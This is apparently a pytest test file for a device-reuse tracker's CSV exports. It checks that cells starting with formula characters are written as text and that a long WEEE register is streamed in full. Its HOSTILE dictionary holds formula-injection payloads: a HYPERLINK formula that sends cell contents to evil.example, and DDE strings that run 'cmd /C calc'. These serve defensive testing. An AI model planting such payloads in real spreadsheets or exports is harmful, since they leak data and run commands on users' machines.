"""CSV exports: no cell runs as a formula in a spreadsheet, and every row is written."""

from __future__ import annotations

import csv
import io

import pytest

from reuse_tracker import csv_export
from reuse_tracker.workshop import weee
from tests.workshop.helpers import act, weee_register

HOSTILE = {
    "brand": '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
    "model": "+cmd|' /C calc'!A0",
    "channel": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reference": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Dell", "Dell"),
        ("0,00160", "0,00160"),
        (None, ""),
        (12, "12"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert csv_export.neutralise(cell) == written
    assert next(csv.reader(io.StringIO(csv_export.line([cell])), delimiter=";")) == [written]


def test_the_weee_register_writes_formulas_as_text(client, login, make_device):
    login("coordinator")
    device = make_device("received", brand=HOSTILE["brand"], model=HOSTILE["model"])
    act(
        device,
        "recycle",
        {
            "weight_kg": "2.0",
            "collected_on": "2021-03-01",
            "channel": "ecosystem",  # chosen from the éco-organismes' list: no free text
            "reference": HOSTILE["reference"],
        },
    )
    _header, row, _total = weee_register(client, **{"from": "2021-01-01", "to": "2021-12-31"})
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert f"'{HOSTILE['reference']}" in row
    assert f"'{HOSTILE['brand']} {HOSTILE['model']}" in row


def test_a_wide_period_is_streamed_to_its_last_row(client, login, make_device, monkeypatch):
    """Twenty years, picked-up and undated removals mixed, read two at a time: all there."""
    login("coordinator")
    monkeypatch.setattr(weee, "BATCH", 2)
    dates = [
        f"{year}-0{month}-1{day}"
        for year in (2007, 2015, 2021, 2026)
        for month, day in ((1, 1), (6, 5))
    ]
    for on in dates:
        act(
            make_device("received"),
            "recycle",
            {"weight_kg": "1.0", "collected_on": on, "channel": "ecosystem"},
        )
    for _ in range(3):  # no pick-up date: dated by the event (today)
        act(make_device("received"), "recycle", {"weight_kg": "1.0", "channel": "ecosystem"})
    header, *rows, total = weee_register(client, **{"from": "2000-01-01", "to": "2030-12-31"})
    assert header[0] == "Date of removal"
    assert sorted(row[0] for row in rows)[: len(dates)] == sorted(dates)
    assert len(rows) == len(dates) + 3
    assert total[1] == f"{len(dates) + 3} devices"
    assert total[-1] == f"{len(dates) + 3},00"


def test_the_import_template_is_written_by_the_same_helper(client, login):
    login("coordinator")
    answer = client.get("/donations/import/template.csv")
    assert answer.status_code == 200
    assert answer.data.decode("utf-8").startswith(csv_export.BOM + "Type;Marque;")
